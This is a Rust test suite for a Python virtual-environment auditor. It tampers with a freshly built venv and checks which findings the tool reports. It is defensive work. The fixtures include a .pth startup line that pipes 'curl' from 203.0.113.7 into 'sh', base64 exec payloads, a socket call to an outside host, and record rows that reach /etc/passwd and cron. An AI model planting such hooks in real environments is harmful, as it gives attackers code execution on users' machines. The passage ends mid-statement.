//! `audit env:` on a real virtual environment that is made at test time and tampered with.

use crate::{Project, Ran};
use std::{
    collections::BTreeMap,
    ffi::OsStr,
    fs,
    io::{BufRead as _, BufReader, Write as _},
    net::{TcpListener, TcpStream},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::{
        Arc, OnceLock,
        atomic::{AtomicU64, Ordering},
    },
};

/// An environment with the packages of `scripts/environment.txt`; `None` where it cannot be made.
fn original() -> Option<&'static Path> {
    static MADE: OnceLock<Option<PathBuf>> = OnceLock::new();
    MADE.get_or_init(make).as_deref()
}

fn make() -> Option<PathBuf> {
    let pins = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/environment.txt");
    let python = std::env::var_os("WELLHEAD_PYTHON").unwrap_or_else(|| "python3".into());
    let about = ["-c", "import sys; print(sys.version, sys.base_prefix)"];
    let asked = Command::new(&python).args(about).stdin(Stdio::null()).output();
    let mut of = asked.map(|asked| asked.stdout).unwrap_or_default();
    of.extend(fs::read(&pins).ok()?);
    let of = wellhead_core::Digest::sha256(&of).hex;
    let data = Path::new(env!("CARGO_BIN_EXE_wellhead"))
        .parent()?
        .parent()?
        .join("test-data");
    // Named by what it is made of, so that one that was finished is never changed or removed while a test copies it.
    let finished = data.join(format!("environment-{}", of.get(..16)?));
    fs::create_dir_all(&data).ok()?;
    // Each test may be a process of its own: the first one makes it, the others wait.
    let lock = fs::File::create(data.join("environment.lock")).ok()?;
    lock.lock().ok()?;
    if finished.is_dir() {
        return Some(finished);
    }
    let making = data.join("environment-unfinished");
    let _ = fs::remove_dir_all(&making);
    let why = match fill(&making, &pins, &python) {
        Ok(()) => match fs::rename(&making, &finished) {
            Ok(()) => return Some(finished),
            Err(e) => e.to_string(),
        },
        Err(why) => why,
    };
    let _ = fs::remove_dir_all(&making);
    eprintln!("skipped: no environment could be made, so its tests skip: {why}");
    None
}

/// Makes the environment in a new folder.
fn fill(folder: &Path, pins: &Path, python: &OsStr) -> Result<(), String> {
    let run = |program: &Path, args: &[&str]| {
        let mut command = Command::new(program);
        command.args(args).stdin(Stdio::null());
        // What the machine sets for Python and pip must not decide what is made.
        for (name, _) in std::env::vars_os() {
            let shown = name.to_string_lossy();
            let moves = [
                "PIP_TARGET",
                "PIP_PREFIX",
                "PIP_ROOT",
                "PIP_USER",
                "PIP_NO_COMPILE",
            ];
            if shown.starts_with("PYTHON") || moves.contains(&&*shown) {
                command.env_remove(&name);
            }
        }
        let done = command.output();
        let done = done.map_err(|e| e.to_string())?;
        if done.status.success() {
            return Ok(());
        }
        let told = String::from_utf8_lossy(&done.stderr);
        Err(told
            .lines()
            .last()
            .unwrap_or("it failed without a word")
            .to_owned())
    };
    let text = |path: &Path| path.to_string_lossy().into_owned();
    let (own, wheels, pins) = (folder.join("bin/python"), folder.join("wheels"), text(pins));
    let pip = |verb: &[&str], more: &[&str]| {
        let quiet = ["--quiet", "--disable-pip-version-check"];
        run(&own, &[&["-m", "pip"], verb, &quiet, more].concat())
    };
    let from = [
        "--no-deps",
        "--only-binary",
        ":all:",
        "--require-hashes",
        "-r",
        &pins,
    ];
    run(Path::new(python), &["-m", "venv", &text(folder)])?;
    pip(&["download"], &[&from[..], &["-d", &text(&wheels)]].concat())?;
    let offline = ["--no-index", "--find-links", &text(&wheels)];
    pip(&["install"], &[&from[..], &offline].concat())?;
    // The copies are small without what every environment has.
    pip(&["uninstall", "--yes"], &["setuptools", "pip"])
}

/// A copy of it.
struct Environment {
    project: Project,
    site: String,
}

impl Environment {
    fn new() -> Option<Self> {
        let original = original()?;
        let project = Project::new(&[]);
        let done = Command::new("cp")
            .arg("-a")
            .arg(original)
            .arg(project.path().join("venv"))
            .status();
        assert!(done.unwrap().success());
        fs::rename(project.path().join("venv/wheels"), project.path().join("wheels")).unwrap();
        let library = fs::read_dir(project.path().join("venv/lib"))
            .unwrap()
            .next()
            .unwrap();
        let site = format!(
            "venv/lib/{}/site-packages",
            library.unwrap().file_name().to_str().unwrap()
        );
        Some(Self { project, site })
    }

    fn at(&self, path: &str) -> PathBuf {
        self.project.path().join(&self.site).join(path)
    }

    /// The folder of a distribution's own files.
    fn info(&self, name: &str) -> PathBuf {
        let names = fs::read_dir(self.at("")).unwrap().flatten();
        let found = names.map(|e| e.file_name().into_string().unwrap());
        let mut found = found.filter(|n| n.starts_with(&format!("{name}-")) && n.ends_with(".dist-info"));
        self.at(&found.next().unwrap())
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.at(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn append(&self, path: &Path, text: &str) {
        let had = fs::read_to_string(path).unwrap();
        fs::write(path, had + text).unwrap();
    }

    /// What is found beyond the shebangs of a copy: `severity rule last part of the path`, sorted.
    fn found(&self) -> Vec<String> {
        self.found_by(&["audit", "env:venv"])
    }

    fn found_by(&self, args: &[&str]) -> Vec<String> {
        told(&self.project.run(&[args, &["--format", "concise"]].concat()))
    }
}

fn told(ran: &Ran) -> Vec<String> {
    let mut rows: Vec<String> = ran
        .out
        .lines()
        .filter_map(|line| {
            let (place, rest) = line.split_once(": ")?;
            let (severity, rest) = rest.split_once('[')?;
            let (rule, _) = rest.split_once(']')?;
            let name = place.rsplit('/').next()?.split(':').next()?;
            let quiet = ["foreign-shebang", "partly", "not-analysed"].contains(&rule);
            (!quiet).then(|| format!("{severity} {rule} {name}"))
        })
        .collect();
    rows.sort();
    rows.dedup();
    rows
}

#[test]
fn a_fresh_environment_raises_nothing() {
    let Some(env) = Environment::new() else { return };
    let ran = env.project.run(&["audit", "env:venv"]);
    assert_eq!(ran.code, 0, "{}", ran.out);
    assert_eq!(env.found(), [""; 0], "{}", ran.out);
    assert!(
        ran.out.contains("verified against its record, and not"),
        "{}",
        ran.out
    );
    assert_eq!(env.project.run(&["audit", "env:venv", "--strict"]).code, 3);
    let json = env.project.run(&["audit", "env:venv", "--format", "json"]).out;
    for package in ["attrs", "idna", "jupyterlab-widgets", "six"] {
        assert!(json.contains(&format!("\"pkg:pypi/{package}@")), "{package}");
    }
}

#[test]
fn what_every_environment_has_raises_nothing() {
    if original().is_none() {
        return;
    }
    let project = Project::new(&[]);
    let python = std::env::var_os("WELLHEAD_PYTHON").unwrap_or_else(|| "python3".into());
    let made = Command::new(python)
        .args(["-m", "venv", "venv"])
        .current_dir(project.path())
        .status();
    assert!(made.unwrap().success());
    let ran = project.run(&["audit", "env:venv", "--format", "concise"]);
    assert_eq!(told(&ran), [""; 0], "{}", ran.out);
    assert!(!ran.out.contains("foreign-shebang"), "{}", ran.out);
}

#[test]
fn a_file_that_is_not_the_installed_one_is_found_by_digest_and_by_size() {
    let Some(env) = Environment::new() else { return };
    env.append(&env.at("six.py"), "# one more line\n");
    let same_size = fs::read_to_string(env.at("idna/core.py"))
        .unwrap()
        .replacen("import", "impor1", 1);
    fs::write(env.at("idna/core.py"), same_size).unwrap();
    fs::remove_file(env.at("attr/_cmp.py")).unwrap();
    assert_eq!(
        env.found(),
        [
            "error modified-installed-file core.py",
            "error modified-installed-file six.py",
            "warning missing-installed-file RECORD"
        ]
    );
    assert_eq!(env.project.run(&["audit", "env:venv"]).code, 1);
}

#[test]
fn a_changed_file_that_hides_what_it_runs_is_critical() {
    let Some(env) = Environment::new() else { return };
    env.append(
        &env.at("six.py"),
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    );
    let ran = env.project.run(&["audit", "env:venv", "--format", "json"]);
    assert!(ran.out.contains("\"critical\""), "{}", ran.out);
    assert!(
        ran.out.contains("runs code that it decodes from data"),
        "{}",
        ran.out
    );
}

#[test]
fn what_no_record_names_is_found_and_caches_are_not() {
    let Some(env) = Environment::new() else { return };
    env.write("helper.py", "x = 1\n");
    env.write("gone.pyc", "\0\0\0\0");
    env.write("six.cpython-399-x86_64-linux-gnu.so", "\x7fELF");
    env.write("idna/core/__init__.py", "");
    env.write("stray/a.py", "");
    env.write("stray/b.py", "");
    env.write("attr/__pycache__/_cmp.cpython-399.pyc", "");
    env.write("notes.txt", "nothing that runs");
    let found = env.found();
    assert_eq!(
        found,
        [
            "error unowned-installed-file core",
            "error unowned-installed-file six.cpython-399-x86_64-linux-gnu.so",
            "warning unowned-installed-file gone.pyc",
            "warning unowned-installed-file helper.py",
            "warning unowned-installed-file stray"
        ]
    );
}

#[test]
fn rows_that_leave_the_environment_are_found_and_those_of_bin_are_not() {
    let Some(env) = Environment::new() else { return };
    let record = env.info("six").join("RECORD");
    env.append(
        &record,
        "../../../share/x,,\n../../../../../etc/cron.d/x,,\n/etc/passwd,,\nSIX.py,,\n",
    );
    assert_eq!(
        env.found(),
        [
            "error record-escapes RECORD",
            "warning ambiguous-installed-file RECORD",
            "warning missing-installed-file RECORD"
        ]
    );
}

#[test]
fn lines_that_run_at_every_start_are_judged_by_what_they_do() {
    let Some(env) = Environment::new() else { return };
    env.write(
        "a.pth",
        "import os; os.system('curl -s https://203.0.113.7/x | sh')\n",
    );
    env.write("b.pth", "import base64; exec(base64.b64decode('cGFzcw=='))\n");
    env.write("c.pth", "import sys; sys.flags\n");
    env.write("d.pth", "# import os; os.system('x')\n/home/someone/project\n");
    env.write("e.pth", "/tmp/modules\n");
    env.write("f.start", "boot:main\n");
    env.write("boot.py", "import os\ndef main():\n    os.system('id')\n");
    assert_eq!(
        env.found(),
        [
            "error startup-hook a.pth",
            "error startup-hook b.pth",
            "error startup-hook f.start",
            "warning startup-hook c.pth",
            "warning startup-hook e.pth",
            "warning unowned-installed-file boot.py"
        ]
    );
}

#[test]
fn lines_of_the_tools_of_packaging_are_known_by_their_content() {
    let Some(env) = Environment::new() else { return };
    env.write("_virtualenv.pth", "import _virtualenv");
    env.write(
        "_virtualenv.py",
        "import sys\nclass _Finder:\n    pass\nsys.meta_path.insert(0, _Finder())\n",
    );
    env.write("zope-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
    env.write("easy-install.pth", "./egg-folder\n/home/someone/project\n");
    assert_eq!(env.found(), [""; 0]);
    // The same line, when what it imports does more.
    env.write(
        "_virtualenv.py",
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    );
    assert!(
        env.found().iter().any(|f| f.starts_with("error startup-hook")),
        "{:?}",
        env.found()
    );
}

#[test]
fn customize_modules_and_variables_of_the_shell_are_found() {
    let Some(env) = Environment::new() else { return };
    env.write("sitecustomize.py", "import sys\n");
    env.write(
        "usercustomize.py",
        "import socket\nsocket.create_connection(('203.0.113.7', 80))\n",
    );
    assert_eq!(
        env.found(),
        [
            "error startup-hook usercustomize.py",
            "warning startup-hook sitecustomize.py"
        ]
    );
    let mut command = env.project.command(&["audit", "env:", "--format", "concise"]);
    command
        .env("VIRTUAL_ENV", env.project.path().join("venv"))
        .env("PYTHONPATH", "src")
        .env("PYTHONSTARTUP", "/home/someone/.pythonrc");
    let done = command.output().unwrap();
    let out = String::from_utf8(done.stdout).unwrap();
    assert_eq!(out.matches("startup-variable").count(), 2, "{out}");
    assert!(out.contains("from the current folder"), "{out}");
    let err = String::from_utf8(done.stderr).unwrap();
    assert!(err.contains("found by `VIRTUAL_ENV`"), "{err}");
    // A named environment is judged without the shell.
    let mut command = env.project.command(&["audit", "env:venv", "--format", "concise"]);
    let out = command.env("PYTHONPATH", "src").output().unwrap().stdout;
    assert!(!String::from_utf8(out).unwrap().contains("startup-variable"));
}

#[test]
fn the_interpreter_on_path_is_the_environment_without_a_name() {
    let Some(env) = Environment::new() else { return };
    env.write("a.pth", "import os; os.system('id')\n");
    let mut command = env.project.command(&["audit", "env:", "--format", "concise"]);
    let done = command
        .env("PATH", env.project.path().join("venv/bin"))
        .output()
        .unwrap();
    let out = String::from_utf8(done.stdout).unwrap();
    assert!(out.contains("startup-hook"), "{out}");
}

#[test]
fn commands_that_shadow_tools_are_found() {
    let Some(env) = Environment::new() else { return };
    let bin = env.project.path().join("venv/bin");
    fs::write(bin.join("git"), "#!/bin/sh\nexit 0\n").unwrap();
    fs::write(bin.join("my-tool"), "#!/bin/sh\nexit 0\n").unwrap();
    fs::remove_file(bin.join("python3")).unwrap();
    fs::write(bin.join("python3"), "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n").unwrap();
    assert_eq!(
        env.found(),
        ["error shadowed-command git", "error shadowed-command python3"]
    );
    // A link to a place where anybody may put an interpreter, and one to a script beside it.
    use std::os::unix::fs::{PermissionsExt as _, symlink};
    let open = env.project.path().join("open");
    fs::create_dir(&open).unwrap();
    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
    for (name, target) in [
        ("git", None),
        ("python3", Some(open.join("python3"))),
        ("python3.9", Some(bin.join("my-tool"))),
    ] {
        let _ = fs::remove_file(bin.join(name));
        if let Some(target) = target {
            symlink(target, bin.join(name)).unwrap();
        }
    }
    assert_eq!(
        env.found(),
        [
            "error shadowed-command python3",
            "error shadowed-command python3.9"
        ]
    );
}

#[test]
fn commands_of_another_interpreter_are_told_once() {
    let Some(env) = Environment::new() else { return };
    for name in ["one", "two"] {
        let script = "#!/opt/other/bin/python3\nimport sys\n";
        fs::write(env.project.path().join("venv/bin").join(name), script).unwrap();
    }
    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
    assert_eq!(ran.out.matches("foreign-shebang").count(), 1, "{}", ran.out);
    assert!(ran.out.contains("`/opt/other/bin/python3`"), "{}", ran.out);
}

#[test]
fn two_owners_of_one_file_are_told_only_where_they_disagree() {
    let Some(env) = Environment::new() else { return };
    let six = fs::read_to_string(env.info("six").join("RECORD")).unwrap();
    let row = six.lines().find(|l| l.starts_with("six.py,")).unwrap();
    env.append(&env.info("idna").join("RECORD"), &format!("{row}\n"));
    assert_eq!(env.found(), [""; 0]);
    let size = row.rsplit(',').next().unwrap();
    let other = format!("six.py,sha256={},{size}\n", "A".repeat(43));
    env.append(&env.info("attrs").join("RECORD"), &other);
    assert_eq!(env.found(), ["warning ambiguous-installed-file six.py"]);
}

#[test]
fn addresses_of_installed_packages_are_judged() {
    let Some(env) = Environment::new() else { return };
    for (json, expected) in [
        (
            r#"{"url":"https://u:tk_secret@files.example/six.whl","archive_info":{}}"#,
            "warning unpinned-direct-url RECORD",
        ),
        (
            r#"{"url":"https://git.example/six.git","vcs_info":{"vcs":"git","requested_revision":"main","commit_id":"0123456789abcdef0123456789abcdef01234567"}}"#,
            "warning unpinned-direct-url RECORD",
        ),
        (
            r#"{"url":"file:///src/six","dir_info":{"editable":true}}"#,
            "note unpinned-direct-url RECORD",
        ),
        (
            r#"{"url":"https://files.example/six.whl","archive_info":{"hashes":{"sha256":"00"}}}"#,
            "",
        ),
        (
            r#"{"url":"https://git.example/six.git","vcs_info":{"vcs":"git","commit_id":"0123456789abcdef0123456789abcdef01234567"}}"#,
            "",
        ),
        (
            r#"{"url":"https://files.example/six.whl","archive_info":{"hashes":{"md5":"00"}}}"#,
            "warning unpinned-direct-url RECORD",
        ),
        ("no JSON", "warning unpinned-direct-url RECORD"),
    ] {
        fs::write(env.info("six").join("direct_url.json"), json).unwrap();
        let found: Vec<String> = Some(expected.to_owned())
            .into_iter()
            .filter(|e| !e.is_empty())
            .collect();
        assert_eq!(env.found(), found, "{json}");
        assert!(
            !env.project
                .run(&["audit", "env:venv", "--format", "json"])
                .out
                .contains("tk_secret")
        );
    }
}

#[test]
fn doubles_and_unmet_requirements_are_found() {
    let Some(env) = Environment::new() else { return };
    env.write(
        "six-1.2.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: six\nVersion: 1.2\n",
    );
    env.write("six-1.2.dist-info/RECORD", "six-1.2.dist-info/METADATA,,\n");
    env.append(&env.info("idna").join("RECORD"), "");
    let metadata = env.info("attrs").join("METADATA");
    let text = fs::read_to_string(&metadata).unwrap();
    let more = "Requires-Dist: absent-package>=1\nRequires-Dist: idna>=99\nRequires-Dist: not-here; sys_platform == 'win32'\nRequires-Dist: nor-this; extra == 'x'\n";
    fs::write(
        &metadata,
        text.replacen("Name: attrs\n", &format!("Name: attrs\n{more}"), 1),
    )
    .unwrap();
    let ran = env.project.run(&["audit", "env:venv", "--format", "concise"]);
    assert_eq!(
        told(&ran),
        [
            "warning duplicate-distribution RECORD",
            "warning modified-installed-file METADATA",
            "warning unmet-requirement RECORD"
        ]
    );
    assert!(
        ran.out
            .contains("`absent-package>=1` (not installed), `idna>=99` (installed: `3.10`)"),
        "{}",
        ran.out
    );
    assert!(
        !ran.out.contains("nor-this") && !ran.out.contains("not-here"),
        "{}",
        ran.out
    );
}

#[test]
fn a_lock_of_the_same_run_is_compared_with_what_is_installed() {
    let Some(env) = Environment::new() else { return };
    let hash = "--hash=sha256:427318ce031701fea540783410126f03899a97ffc6f61596ad581ac2e40e3bc3";
    let lock = |six: &str, more: &str| {
        let rows = [
            format!("attrs==25.3.0 {hash}"),
            format!("idna==3.10 {hash}"),
            format!("six=={six} {hash}"),
            more.to_owned(),
        ];
        env.project
            .write("requirements.txt", (rows.join("\n") + "\n").as_bytes());
    };
    let drift = |args: &[&str]| {
        let mut found = env.found_by(args);
        found.retain(|f| f.contains("environment-lock-drift"));
        found
    };
    let args = ["audit", "env:venv", "--lock", "requirements.txt"];
    lock("1.17.0", &format!("jupyterlab-widgets==3.0.15 {hash}"));
    assert_eq!(drift(&args), [""; 0]);
    lock("1.16.0", &format!("absent==1 {hash}"));
    assert_eq!(
        drift(&args),
        [
            "warning environment-lock-drift RECORD",
            "warning environment-lock-drift requirements.txt"
        ]
    );
    let ran = env.project.run(&[&args[..], &["--format", "json"]].concat());
    for part in [
        "`1.16.0` is locked and `1.17.0` installed",
        "not installed: `absent`",
        "`jupyterlab_widgets`",
    ] {
        assert!(ran.out.contains(part), "{part}: {}", ran.out);
    }
    fs::write(
        env.info("idna").join("direct_url.json"),
        r#"{"url":"https://files.example/idna.whl","archive_info":{"hashes":{"sha256":"00"}}}"#,
    )
    .unwrap();
    let ran = env.project.run(&["audit", ".", "env:venv", "--format", "json"]);
    assert!(
        ran.out.contains("did not come from where the lock says"),
        "{}",
        ran.out
    );
    assert!(ran.err.contains("`wellhead audit env:"), "{}", ran.err);
}

/// Serves the wheels as a simple index, with ranges; says which bytes were sent.
fn index(env: &Environment) -> (String, Arc<AtomicU64>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let mut files: BTreeMap<String, Vec<u8>> = BTreeMap::new();
    for entry in fs::read_dir(env.project.path().join("wheels")).unwrap().flatten() {
        let name = entry.file_name().into_string().unwrap();
        let bytes = fs::read(entry.path()).unwrap();
        let digest = wellhead_core::Digest::sha256(&bytes).hex;
        let project = name.split('-').next().unwrap().replace('_', "-");
        let page = format!("<a href=\"../../files/{name}#sha256={digest}\">{name}</a>");
        files.insert(format!("/simple/{project}/"), page.into_bytes());
        files.insert(format!("/files/{name}"), bytes);
    }
    let sent = Arc::new(AtomicU64::new(0));
    let counter = Arc::clone(&sent);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = serve(stream, &files, &counter);
        }
    });
    (url, sent)
}

fn serve(mut stream: TcpStream, files: &BTreeMap<String, Vec<u8>>, sent: &AtomicU64) -> std::io::Result<()> {
    let mut head = String::new();
    let mut reader = BufReader::new(stream.try_clone()?);
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head)? == 0 {
            return Ok(());
        }
    }
    let path = head.split(' ').nth(1).unwrap_or_default();
    let Some(bytes) = files.get(path) else {
        return stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    };
    let lower = head.to_lowercase();
    let range = lower
        .split("range: bytes=")
        .nth(1)
        .and_then(|r| r.split("\r\n").next());
    let range = range.and_then(|r| {
        let (from, to) = r.split_once('-')?;
        let to = to.parse().unwrap_or(usize::MAX).min(bytes.len() - 1);
        Some((from.parse::<usize>().ok()?, to))
    });
    let (from, to) = range.unwrap_or((0, bytes.len() - 1));
    let part = &bytes[from..=to];
    sent.fetch_add(part.len() as u64, Ordering::Relaxed);
    write!(
        stream,
        "HTTP/1.1 206 Partial Content\r\nContent-Length: {}\r\nContent-Range: bytes {from}-{to}/{}\r\nConnection: close\r\n\r\n",
        part.len(),
        bytes.len()
    )?;
    stream.write_all(part)
}

#[test]
fn a_record_that_was_rewritten_is_found_in_the_wheel() {
    let Some(env) = Environment::new() else { return };
    let (url, sent) = index(&env);
    let simple = format!("{url}/simple");
    for place in ["wheels", &simple] {
        assert_eq!(
            env.found_by(&["audit", "env:venv", "--wheels", place]),
            [""; 0],
            "{place}"
        );
    }
    let had = sent.load(Ordering::Relaxed);
    assert!(had > 0);
    // The file and its row are changed together, so that they fit.
    let text = fs::read_to_string(env.at("six.py")).unwrap() + "# one more line\n";
    fs::write(env.at("six.py"), &text).unwrap();
    let record = env.info("six").join("RECORD");
    let rows = fs::read_to_string(&record).unwrap();
    let row = rows.lines().find(|l| l.starts_with("six.py,")).unwrap();
    let digest = wellhead_core::Digest::sha256(text.as_bytes()).hex;
    fs::write(
        &record,
        rows.replace(row, &format!("six.py,sha256={digest},{}", text.len())),
    )
    .unwrap();
    assert_eq!(env.found(), [""; 0]);
    for place in ["wheels", &simple] {
        assert_eq!(
            env.found_by(&["audit", "env:venv", "--wheels", place]),
            ["error record-not-of-wheel RECORD"],
            "{place}"
        );
    }
    // Offline nothing is asked, and that is said.
    let before = sent.load(Ordering::Relaxed);
    let ran = env
        .project
        .run(&["audit", "env:venv", "--wheels", &simple, "--offline", "-v"]);
    assert!(ran.out.contains("could not be compared"), "{}", ran.out);
    assert_eq!(sent.load(Ordering::Relaxed), before);
    // A wheel that the lock does not admit proves nothing.
    let lock = format!("six==1.17.0 --hash=sha256:{}\n", "0".repeat(64));
    env.project.write("requirements.txt", lock.as_bytes());
    let ran = env.project.run(&[
        "audit",
        "env:venv",
        "--lock",
        "requirements.txt",
        "--wheels",
        "wheels",
        "-v",
    ]);
    assert!(ran.out.contains("is not the wheel that is locked"), "{}", ran.out);
}

/// A prefix of conda that holds the packages, with records of the digests that they have now.
fn conda(env: &Environment) {
    fs::remove_file(env.project.path().join("venv/pyvenv.cfg")).unwrap();
    let site = env.site.strip_prefix("venv/").unwrap().to_owned();
    let row = |path: &str, more: &str| {
        let bytes = fs::read(env.project.path().join("venv").join(path)).unwrap();
        let digest = wellhead_core::Digest::sha256(&bytes).hex;
        format!(
            r#"{{"_path":"{path}","path_type":"hardlink","sha256":"{digest}","size_in_bytes":{}{more}}}"#,
            bytes.len()
        )
    };
    let rows = [
        row(&format!("{site}/six.py"), ""),
        row(&format!("{site}/idna/core.py"), ""),
    ];
    let json = format!(
        r#"{{"name":"six","version":"1.17.0","channel":"https://conda.example/main","paths_data":{{"paths":[{}]}}}}"#,
        rows.join(",")
    );
    env.project
        .write("venv/conda-meta/six-1.17.0-0.json", json.as_bytes());
}

#[test]
fn digests_of_conda_are_compared_and_pip_over_conda_is_told() {
    let Some(env) = Environment::new() else { return };
    conda(&env);
    assert_eq!(env.found(), ["warning pip-over-conda RECORD"]);
    for one in ["attrs", "idna", "six", "jupyterlab_widgets"] {
        if fs::read_dir(env.at(""))
            .unwrap()
            .flatten()
            .any(|e| e.file_name().to_str().unwrap().starts_with(&format!("{one}-")))
        {
            fs::write(env.info(one).join("INSTALLER"), "conda").unwrap();
        }
    }
    env.append(&env.at("idna/core.py"), "# more\n");
    let found = env.found();
    assert_eq!(found, ["error modified-installed-file core.py"], "{found:?}");
}

#[test]
fn a_prefix_of_conda_holds_tools_of_the_system() {
    let Some(env) = Environment::new() else { return };
    let place = env.project.path().join("venv/bin/curl");
    fs::write(&place, "\x7fELF").unwrap();
    let digest = wellhead_core::Digest::sha256(b"\x7fELF").hex;
    let json = format!(
        r#"{{"name":"curl","version":"8.8.0","paths_data":{{"paths":[{{"_path":"bin/curl","path_type":"hardlink","sha256":"{digest}","sha256_in_prefix":"{digest}","size_in_bytes":4}}]}}}}"#
    );
    env.project
        .write("venv/conda-meta/curl-8.8.0-0.json", json.as_bytes());
    fs::remove_file(env.project.path().join("venv/pyvenv.cfg")).unwrap();
    assert_eq!(env.found(), [""; 0]);
    fs::write(&place, "#!/bin/sh\n").unwrap();
    assert_eq!(
        env.found(),
        [
            "error modified-installed-file curl",
            "warning shadowed-command curl"
        ]
    );
}

#[test]
fn an_interpreter_that_all_share_is_told() {
    let Some(env) = Environment::new() else { return };
    let config = env.project.path().join("venv/pyvenv.cfg");
    let text = fs::read_to_string(&config).unwrap();
    fs::write(
        &config,
        text.replace(
            "include-system-site-packages = false",
            "include-system-site-packages = true",
        ),
    )
    .unwrap();
    assert_eq!(env.found(), ["warning shared-interpreter pyvenv.cfg"]);
    fs::remove_file(&config).unwrap();
    assert_eq!(env.found(), ["warning shared-interpreter site-packages"]);
}

#[test]
fn what_python_runs_and_nobody_could_read_is_said() {
    use std::os::unix::fs::symlink;
    let Some(env) = Environment::new() else { return };
    let outside = env.project.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::write(outside.join("x.pth"), "import os; os.system('id')\n").unwrap();
    symlink(outside.join("x.pth"), env.at("linked.pth")).unwrap();
    env.write("large.pth", &format!("{}import os\n", "# \n".repeat(1_500_000)));
    // A folder is not read, and a hidden one is by most versions.
    fs::create_dir(env.at("folder.pth")).unwrap();
    env.write(".hidden.pth", "import sys; sys.flags\n");
    assert_eq!(
        env.found(),
        [
            "warning startup-hook .hidden.pth",
            "warning startup-hook large.pth",
            "warning startup-hook linked.pth",
        ]
    );
}

#[test]
fn folders_on_the_path_are_judged_by_who_may_write_to_them() {
    use std::os::unix::fs::{PermissionsExt as _, symlink};
    let Some(env) = Environment::new() else { return };
    let folder = |name: &str, mode| {
        let path = env.project.path().join(name);
        fs::create_dir_all(&path).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
        path.to_str().unwrap().to_owned()
    };
    // A project below `/tmp`, as it is here, is no more open than any other.
    env.write("own.pth", &format!("{}\n", folder("src", 0o755)));
    assert_eq!(env.found(), [""; 0]);
    env.write("open.pth", &format!("{}\n", folder("shared", 0o777)));
    let custom = folder("custom", 0o755);
    fs::write(Path::new(&custom).join("sitecustomize.py"), "import sys\n").unwrap();
    env.write("custom.pth", &format!("{custom}\n"));
    env.write(
        "../../../share/more/usercustomize.py",
        "import os\nos.system('id')\n",
    );
    env.write("inside.pth", "../../../share/more\n");
    env.write("sitecustomize.cpython-311-x86_64-linux-gnu.so", "\x7fELF");
    env.write("../../../bin/pyvenv.cfg", "home = /opt/other/bin\n");
    symlink("/usr/bin", env.at("../../../bin/linked")).unwrap();
    assert_eq!(
        env.found(),
        [
            "error startup-hook pyvenv.cfg",
            "error startup-hook usercustomize.py",
            "warning startup-hook custom.pth",
            "warning startup-hook open.pth",
            "warning startup-hook sitecustomize.cpython-311-x86_64-linux-gnu.so",
        ]
    );
}

#[test]
fn a_line_that_is_known_is_not_known_without_its_module() {
    let Some(env) = Environment::new() else { return };
    env.write("_virtualenv.pth", "import _virtualenv");
    env.write("coverage.pth", "import coverage; coverage.process_startup()");
    let found = env.found();
    assert_eq!(
        found,
        [
            "warning startup-hook _virtualenv.pth",
            "warning startup-hook coverage.pth"
        ]
    );
    // It may lie in a folder that the same file puts on the path.
    env.write("_virtualenv.pth", "more\nimport _virtualenv");
    env.write("more/_virtualenv.py", "import sys\n");
    fs::remove_file(env.at("coverage.pth")).unwrap();
    assert_eq!(env.found(), ["warning unowned-installed-file more"]);
}

#[test]
fn a_record_that_vouches_for_nothing_is_told() {
    let Some(env) = Environment::new() else { return };
    let record = env.info("six").join("RECORD");
    let text = fs::read_to_string(&record).unwrap();
    let row = text.lines().find(|l| l.starts_with("six.py,")).unwrap();
    // With line ends of Windows, a mark at the beginning and quotes it is the same record.
    let same = text
        .replace(row, &format!("\"six.py\"{}", &row[6..]))
        .replace('\n', "\r\n");
    fs::write(&record, format!("\u{feff}{same}")).unwrap();
    assert_eq!(env.found(), [""; 0]);
    for digest in ["", "md5=1B2M2Y8AsgTpgAmY7PhCfg"] {
        fs::write(&record, text.replace(row, &format!("six.py,{digest},"))).unwrap();
        assert_eq!(
            env.found(),
            ["warning unverifiable-installation RECORD"],
            "{digest}"
        );
    }
    let other = format!("six.py,sha256={},\n", "A".repeat(43));
    fs::write(&record, format!("{text}{other}")).unwrap();
    assert_eq!(env.found(), ["warning unverifiable-installation RECORD"]);
    fs::write(&record, text.replace(row, "six.py,sha256=,")).unwrap();
    assert!(
        env.found()
            .contains(&"warning unverifiable-installation RECORD".to_owned())
    );
    // Who has no record at all cannot claim what was put among the files of another.
    fs::write(&record, text).unwrap();
    env.write("attr/added.py", "x = 1\n");
    env.write(
        "claims.egg-info/PKG-INFO",
        "Metadata-Version: 1.0\nName: claims\nVersion: 1\n",
    );
    env.write("claims.egg-info/top_level.txt", "attr\nattrs\n");
    assert_eq!(env.found(), ["warning unowned-installed-file added.py"]);
}

#[test]
fn what_hides_among_caches_data_and_eggs_is_looked_at() {
    let Some(env) = Environment::new() else { return };
    env.write("attr/__pycache__/added.py", "x = 1\n");
    env.write("attr/__pycache__/index.nbi", "");
    env.write("stray/readme.txt", "");
    let model = crate::harmful();
    fs::write(env.at("stray/weights.pkl"), &model).unwrap();
    env.write(
